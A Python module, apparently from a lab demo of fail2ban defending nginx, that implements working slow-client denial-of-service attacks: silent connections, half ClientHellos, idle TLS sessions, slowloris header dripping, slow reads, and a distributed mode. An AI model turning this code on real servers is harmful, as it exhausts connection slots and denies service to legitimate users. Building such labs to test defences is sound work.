"""Slow clients: each kind opens connections that cost nginx a slot and the attacker next to nothing."""

from __future__ import annotations

import errno
import os
import select
import socket
import ssl
import threading
import time
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Callable, Optional

from demo.lab.namespace import SERVERS, Namespace

PORT = 443
NAME = "lab.example"
#: linux/in6.h: binding to an address that only a local route owns
_IPV6_FREEBIND = 78
_DRIP_S = 3.0


def tls_context() -> ssl.SSLContext:
    """Return the settings of a client that takes the lab's own certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def connect(
    address: str, timeout_s: Optional[float] = 5.0, receive_buffer: int = 0, port: int = PORT
) -> socket.socket:
    """Connect from `address` to the server of its family; with timeout 0 it is only begun."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    client = socket.socket(family, socket.SOCK_STREAM)
    try:
        if family == socket.AF_INET6:
            client.setsockopt(socket.IPPROTO_IPV6, _IPV6_FREEBIND, 1)
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        client.bind((address, 0))
        client.settimeout(timeout_s)
        code = client.connect_ex((SERVERS[family], port))
        if code not in (0, errno.EINPROGRESS):
            raise OSError(code, os.strerror(code))
    except BaseException:
        client.close()
        raise
    return client


def client_hello() -> bytes:
    """Return the first record of a TLS handshake."""
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = tls_context().wrap_bio(received, sent, server_hostname=NAME)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()
    raise AssertionError("a handshake cannot end without an answer")


def _silent(client: socket.socket) -> socket.socket:
    return client


def _half_hello(client: socket.socket) -> socket.socket:
    hello = client_hello()
    client.sendall(hello[: len(hello) // 2])
    return client


def _handshake(client: socket.socket) -> ssl.SSLSocket:
    return tls_context().wrap_socket(client, server_hostname=NAME)


def _slow_headers(client: socket.socket) -> ssl.SSLSocket:
    tls = _handshake(client)
    tls.sendall(f"GET / HTTP/1.1\r\nHost: {NAME}\r\n".encode())
    return tls


def _slow_read(client: socket.socket) -> ssl.SSLSocket:
    tls = _handshake(client)
    tls.sendall(f"GET /big.bin HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode())
    return tls


@dataclass(frozen=True)
class Kind:
    """What an attacker does with each connection."""

    name: str
    text: str
    begin: Callable[[socket.socket], socket.socket]
    drip: bytes = b""
    receive_buffer: int = 0


SILENT = Kind("silent", "connects, sends not one byte", _silent)
HALF_HELLO = Kind("half hello", "sends half a ClientHello", _half_hello)
HANDSHAKE = Kind("handshake", "TLS done, then silent", _handshake)
SLOW_HEADERS = Kind("slowloris", f"one header each {_DRIP_S:.0f} s", _slow_headers, b"X-Lab: slow\r\n")
SLOW_READ = Kind("slow read", "asks for 16 MB, never reads", _slow_read, receive_buffer=2048)


class Attack:
    """Connections of one kind from one or more addresses, held in a thread of their own until `stop`."""

    def __init__(
        self,
        kind: Kind,
        addresses: Sequence[str],
        per_address: int,
        target: Optional[str] = None,
        port: int = PORT,
    ) -> None:
        self.kind, self.port = kind, port
        self.addresses = tuple(addresses)
        self.per_address = per_address
        #: what fail2ban is expected to ban: the address, or a network for a distributed attack
        self.target = target or self.addresses[0]
        self.started: Optional[float] = None
        self.opened = self.refused = self.reset = self.closed = 0
        self._held: dict[int, socket.socket] = {}
        self._stop = threading.Event()
        self._thread: Optional[threading.Thread] = None

    @property
    def name(self) -> str:
        """What the demo prints: the kind, or "distributed" for many addresses."""
        return self.kind.name if len(self.addresses) == 1 else "distributed"

    @property
    def connections(self) -> int:
        """How many connections it opens."""
        return len(self.addresses) * self.per_address

    def start(self, namespace: Namespace) -> None:
        """Begin, in a thread that is in this namespace."""
        self.started = time.monotonic()
        name = f"attack {self.kind.name}"
        self._thread = threading.Thread(target=self._run, args=(namespace,), name=name, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        """Close all connections and wait for the thread."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join()

    def _run(self, namespace: Namespace) -> None:
        poll = select.poll()
        with namespace.enter():
            for address in self.addresses:
                for _number in range(self.per_address):
                    self._open(address, poll)
        while not self._stop.is_set():
            self._hold(poll, time.monotonic() + _DRIP_S)
            self._drip(poll)
        for client in self._held.values():
            client.close()

    def _open(self, address: str, poll: select.poll) -> None:
        try:
            client = self.kind.begin(
                connect(address, receive_buffer=self.kind.receive_buffer, port=self.port)
            )
        except OSError:
            self.refused += 1
            return
        client.setblocking(False)
        # not POLLIN: what the server says stays unread, only its end is of interest
        poll.register(client, select.POLLRDHUP)
        self._held[client.fileno()] = client
        self.opened += 1

    def _hold(self, poll: select.poll, until: float) -> None:
        while time.monotonic() < until and not self._stop.is_set():
            for number, _event in poll.poll(50):
                poll.unregister(number)
                self._end(self._held.pop(number))

    def _end(self, client: socket.socket) -> None:
        if client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.reset += 1
        else:
            self.closed += 1
        client.close()

    def _drip(self, poll: select.poll) -> None:
        if not self.kind.drip:
            return
        for number, client in list(self._held.items()):
            try:
                client.send(self.kind.drip)
            except ConnectionResetError:
                # the error is told once: here, and no longer by poll
                poll.unregister(number)
                self._held.pop(number).close()
                self.reset += 1
            except OSError:
                continue
